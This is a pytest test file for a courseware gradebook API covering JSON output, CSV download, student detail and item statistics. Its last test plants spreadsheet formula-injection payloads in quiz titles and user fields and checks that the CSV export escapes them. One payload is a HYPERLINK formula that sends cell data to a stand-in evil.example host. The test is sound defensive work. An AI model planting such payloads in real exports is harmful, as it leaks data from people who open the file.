"""Instructors read their course's gradebook, a student's detail and item statistics."""

from __future__ import annotations

import pytest

from courseware.models import User
from quizzes.models import Quiz
from quizzes.services.attempts import attempt_submit, response_save
from quizzes.services.grading import attempt_grade
from tests.api.conftest import World, token_client
from tests.factories import QuizFactory

pytestmark = pytest.mark.django_db


@pytest.fixture
def graded(world: World, student: User) -> World:
    response_save(attempt_id=world.attempt.pk, user=student, question_id=world.question.pk, answer="c1")
    attempt_submit(attempt=world.attempt, user=student)
    attempt_grade(attempt_id=world.attempt.pk)
    return world


def test_the_gradebook_shows_each_students_grade_per_quiz(graded: World, instructor: User, student: User) -> None:
    book = token_client(instructor).get(f"/api/courses/{graded.course.pk}/gradebook/").json()
    assert [q["id"] for q in book["quizzes"]] == [graded.quiz.pk]
    row = next(r for r in book["rows"] if r["student"]["id"] == student.pk)
    assert row["cells"] == [{"grade": 100.0, "attempts": 1, "pending": 0, "awaiting_marking": 0, "passed": True}]


def test_the_gradebook_downloads_as_csv(graded: World, instructor: User) -> None:
    response = token_client(instructor).get(f"/api/courses/{graded.course.pk}/gradebook.csv")
    assert response.status_code == 200
    assert response["Content-Type"].startswith("text/csv")
    assert graded.quiz.title in response.content.decode()


def test_a_students_detail_and_a_non_member_is_404(graded: World, instructor: User, student: User, other_student: User) -> None:
    client = token_client(instructor)
    detail = client.get(f"/api/courses/{graded.course.pk}/students/{student.pk}/").json()
    assert detail["grades"] == {str(graded.quiz.pk): 100.0}
    assert client.get(f"/api/courses/{graded.course.pk}/students/{other_student.pk}/").status_code == 404


def test_item_statistics_count_the_options_chosen(graded: World, instructor: User) -> None:
    stats = token_client(instructor).get(f"/api/quizzes/{graded.quiz.pk}/item-statistics/").json()
    assert [s["question_id"] for s in stats] == [graded.question.pk]
    chosen = {o["option"]: o["count"] for o in stats[0]["options"]}
    assert chosen["c1"] == 1


def test_the_csv_export_escapes_every_cell_a_spreadsheet_would_run_as_a_formula(graded: World, instructor: User, student: User) -> None:
    """F14: quiz titles (the header) and emails went out unescaped, and a leading tab or CR was missed."""
    import csv
    import io

    Quiz.objects.filter(pk=graded.quiz.pk).update(title='=HYPERLINK("https://evil.example/?"&A2,"Click")')
    QuizFactory(module=graded.module, title="\t=1+1")
    User.objects.filter(pk=student.pk).update(email="@SUM(1+1)@example.org", first_name="\r=cmd", last_name="-2+3")

    response = token_client(instructor).get(f"/api/courses/{graded.course.pk}/gradebook.csv")

    header, *rows = list(csv.reader(io.StringIO(response.content.decode())))
    row = next(r for r in rows if r[0] == student.username)
    cells = [*header, *row]
    assert not any(cell[:1] in ("=", "+", "-", "@", "\t", "\r") for cell in cells)
    assert '\'=HYPERLINK("https://evil.example/?"&A2,"Click")' in header
    assert row[1:4] == ["'\r=cmd", "'-2+3", "'@SUM(1+1)@example.org"]
